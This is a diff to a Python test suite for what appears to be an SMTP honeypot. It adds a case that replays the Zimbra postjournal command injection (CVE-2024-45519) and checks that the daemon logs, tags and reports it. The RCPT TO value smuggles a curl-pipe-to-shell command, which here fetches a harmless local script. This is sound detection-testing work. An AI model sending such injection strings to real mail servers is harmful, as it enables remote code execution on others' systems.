@@ -8,6 +8,7 @@ smtp.message event; STARTTLS with swaks --tls when its Perl TLS module is instal
 with openssl s_client -starttls smtp; nmap -sV names Postfix, Exim and Sendmail.
 """
 import hashlib
+import json
 import os
 import re
 import shutil
@@ -140,3 +141,38 @@ def smtp_nmap_identifies_products(ctx):
         assert m and re.match(pat, m.group(1)), (n, out)
         ctx.note("nmap: %s -> %s" % (n, m.group(1).strip()))
     d.stop()
+
+
+@case
+def smtp_zimbra_postjournal_injection(ctx):
+    """CVE-2024-45519 as bots send it (real swaks): a $(curl${IFS}...) substitution in RCPT TO.  The
+    command.input event carries the CVE, the URL is fetched, and the report ranks the CVE; a plain
+    RCPT gets no attack fields."""
+    need("swaks")
+    from cases_capture import ALLOW_LOOPBACK, WebServer, wait_download
+    from cases_report import report
+    web = WebServer()
+    ctx.defer(web.close)
+    web.files["/z.sh"] = b"#!/bin/sh\necho zimbra\n"
+    d = ctx.daemon("smtp-zimbra", [smtp_svc("mx", server="postfix")], capture=dict(ALLOW_LOOPBACK)).start()
+    port = d.svc("mx").port
+    url = web.url("/z.sh")
+    rcpt = '"aabbb$(curl${IFS}%s|sh)"@mail.example.com' % url
+    swaks(port, "--to", rcpt, "--from", "a@b.example", "--quit-after", "RCPT")
+    swaks(port, "--to", "postmaster@example.com", "--from", "a@b.example", "--quit-after", "RCPT")
+    wait_download(d, url)
+    evs = stop_and_read(d)
+    rc = [e for e in evs if e["eventid"] == "command.input" and e["command"] == "RCPT"]
+    assert len(rc) == 2, rc
+    bad = [e for e in rc if "aabbb" in e["input"]]
+    assert len(bad) == 1 and bad[0]["cves"] == ["CVE-2024-45519"], rc
+    assert set(bad[0]["attack_classes"]) == {"command-injection", "rce"}, bad
+    good = [e for e in rc if "postmaster" in e["input"]]
+    assert good and "cves" not in good[0] and "attack_classes" not in good[0], good
+    dl = [e for e in evs if e["eventid"] == "session.file_download" and e.get("url") == url]
+    assert len(dl) == 1 and dl[0]["found_in"] == "smtp" and dl[0]["session"] == bad[0]["session"], dl
+    assert web.count("/z.sh") == 1
+    day = evs[0]["timestamp"][:10]
+    for extra in ([], ["--no-rollup"]):
+        secs = {s["id"]: s for s in json.loads(report(d, "--json", "--since", day, *extra))["sections"]}
+        assert [(r["cve"], r["attempts"]) for r in secs["cves"]["rows"]] == [("CVE-2024-45519", 1)], secs["cves"]
